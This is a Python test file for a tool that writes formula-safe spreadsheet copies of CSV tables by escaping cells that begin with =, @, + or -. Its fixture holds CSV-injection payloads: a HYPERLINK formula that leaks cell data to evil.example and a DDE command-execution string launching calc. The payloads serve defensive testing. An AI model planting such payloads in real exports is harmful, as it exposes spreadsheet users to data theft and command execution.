"""Formula-safe spreadsheet copies of the tables (analysis.spreadsheet)."""

from __future__ import annotations

import csv
import hashlib
import re
from pathlib import Path

import pandas as pd
import pytest

from analysis.__main__ import main
from analysis.corpus import seed_corpus_path
from analysis.spreadsheet import (FORMULA_START, numeric_columns, safe_cell,
                                  write_spreadsheet_copies)

BOM = b"\xef\xbb\xbf"
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")

HOSTILE = """---
outlet: '=HYPERLINK("http://evil.example/?"&A1,"Hostile Daily")'
title: "@SUM(1+1)*cmd|' /C calc'!A0"
---
=HYPERLINK("http://evil.example/?"&A2, "click") is what the page said.

-2+3 officials said on Friday, a horrible and deadly disaster.

+1 more thing, the mayor said.
"""


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _digest(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.iterdir()) if p.is_file()}


@pytest.fixture(scope="module")
def hostile_tables(tmp_path_factory) -> Path:
    """The tables ``measure`` writes for an article whose outlet, title and sentences
    start with =, @, - and +."""
    tmp = tmp_path_factory.mktemp("spreadsheet")
    (tmp / "corpus").mkdir()
    (tmp / "corpus" / "formula.md").write_text(HOSTILE, encoding="utf-8")
    assert main(["measure", str(tmp / "corpus"), "--out", str(tmp / "out"), "--quiet"]) == 0
    return tmp / "out"


@pytest.mark.bad_input("spreadsheet-formula-cells")
def test_copies_hold_no_formula_and_keep_numbers(hostile_tables, tmp_path):
    """Before: articles.csv and sentences.csv carried 7 text cells starting with =, @,
    - or + (live formulas in Excel or LibreOffice); the copies carry none, the tables
    are untouched, and numeric columns (a negative compound) are still numbers."""
    raw = {p.name: _cells(p) for p in hostile_tables.glob("*.csv")}
    risky = [c for rows in raw.values() for row in rows for c in row
             if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert len(risky) >= 6 and any(c.startswith("=HYPERLINK") for c in risky)
    before = _digest(hostile_tables)

    dest = hostile_tables / "spreadsheet"
    written = write_spreadsheet_copies(hostile_tables, dest)
    assert [p.name for p in written] == sorted(raw) and all(p.parent == dest for p in written)
    assert _digest(hostile_tables) == before               # canonical tables byte-stable

    for path in written:
        numeric = numeric_columns(hostile_tables / path.name)
        copy = _cells(path)
        original = raw[path.name]
        assert len(copy) == len(original)
        for row, old in zip(copy, original):
            for i, (cell, was) in enumerate(zip(row, old)):
                if cell.startswith(FORMULA_START):      # only numbers of numeric columns
                    assert numeric[i] and NUMBER.fullmatch(cell), (path.name, cell)
                assert cell in (was, "'" + was)           # nothing else changes
    sentences = pd.read_csv(dest / "sentences.csv", encoding="utf-8-sig")
    canonical = pd.read_csv(hostile_tables / "sentences.csv")
    assert (sentences["compound"] < 0).any()              # a negative number ...
    pd.testing.assert_series_equal(sentences["compound"], canonical["compound"])  # ... kept
    assert (sentences.dtypes == canonical.dtypes).all()
    assert "'=HYPERLINK(\"http://evil.example/?\"&A2, \"click\") is what the page said." in set(
        sentences["text"])
    assert "'-2+3 officials said on Friday, a horrible and deadly disaster." in set(
        sentences["text"])
    articles = pd.read_csv(dest / "articles.csv", encoding="utf-8-sig")
    assert articles.at[0, "outlet"].startswith("'=HYPERLINK")
    assert articles.at[0, "title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_seed_tables_copy_unchanged_after_the_byte_order_mark(tmp_path):
    """The seed tables hold no formula-like text: each copy is the table byte for byte,
    behind the UTF-8 byte-order mark Excel needs (negative numbers included)."""
    out = tmp_path / "out"
    assert main(["measure", str(seed_corpus_path()), "--out", str(out), "--quiet"]) == 0
    written = write_spreadsheet_copies(out, tmp_path / "sheets")
    assert len(written) == len(list(out.glob("*.csv"))) >= 10
    assert any(c.startswith("-") for row in _cells(out / "sentences.csv") for c in row)
    for path in written:
        data = path.read_bytes()
        assert data.startswith(BOM) and data[len(BOM):] == (out / path.name).read_bytes()


def test_numeric_columns_decided_per_column(tmp_path):
    table = tmp_path / "t.csv"
    table.write_text("id,score,title,mixed,empty,big\n"
                     "a,-0.42,-1,-3,,1e-05\n"
                     "b,,=1+1,x,,-inf\n"
                     "c,17,@me,2,,nan\n", encoding="utf-8")
    assert numeric_columns(table) == [False, True, False, False, False, True]
    write_spreadsheet_copies(tmp_path, tmp_path / "sheet")
    assert _cells(tmp_path / "sheet" / "t.csv") == [
        ["id", "score", "title", "mixed", "empty", "big"],
        ["a", "-0.42", "'-1", "'-3", "", "1e-05"],
        ["b", "", "'=1+1", "x", "", "'-inf"],
        ["c", "17", "'@me", "2", "", "nan"]]


@pytest.mark.parametrize("cell,numeric,expected", [
    ("=SUM(A1)", False, "'=SUM(A1)"),
    ("+49 30 1234", False, "'+49 30 1234"),
    ("-0.42", True, "-0.42"),
    ("-0.42", False, "'-0.42"),
    ("-2+3", True, "'-2+3"),            # not a plain number, even in a numeric column
    ("@cmd", False, "'@cmd"),
    ("\t=1", False, "'\t=1"),
    ("\r=1", False, "'\r=1"),
    ("   =1+1", False, "'   =1+1"),     # leading spaces do not hide a formula
    ("a = b", False, "a = b"),
    ("", False, ""),
    ("'=already", False, "'=already"),
])
def test_safe_cell(cell, numeric, expected):
    assert safe_cell(cell, numeric) == expected


def test_long_cells_and_quoting_survive(tmp_path):
    """A cell longer than the csv module's default limit (131,072 characters), with
    quotes and a line break, is copied whole; the limit is put back."""
    long = "=" + "word, \"quoted\"\n" * 20_000
    pd.DataFrame({"text": [long, "plain"], "n": [-1, 2]}).to_csv(
        tmp_path / "q.csv", index=False, lineterminator="\n")
    limit = csv.field_size_limit()
    write_spreadsheet_copies(tmp_path, tmp_path / "sheet")
    assert csv.field_size_limit() == limit
    back = pd.read_csv(tmp_path / "sheet" / "q.csv", encoding="utf-8-sig")
    assert back.at[0, "text"] == "'" + long and list(back["n"]) == [-1, 2]


def test_copies_never_replace_the_tables_or_follow_links(tmp_path):
    (tmp_path / "t.csv").write_text("a\n=1\n", encoding="utf-8")
    with pytest.raises(ValueError):
        write_spreadsheet_copies(tmp_path, tmp_path / ".")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == "a\n=1\n"
    outside = tmp_path.parent / f"{tmp_path.name}-victim.txt"
    outside.write_text("keep", encoding="utf-8")
    (tmp_path / "sheet").mkdir()
    (tmp_path / "sheet" / "t.csv").symlink_to(outside)
    write_spreadsheet_copies(tmp_path, tmp_path / "sheet")
    assert outside.read_text(encoding="utf-8") == "keep"
    assert not (tmp_path / "sheet" / "t.csv").is_symlink()
    assert _cells(tmp_path / "sheet" / "t.csv") == [["a"], ["'=1"]]
    outside.unlink()
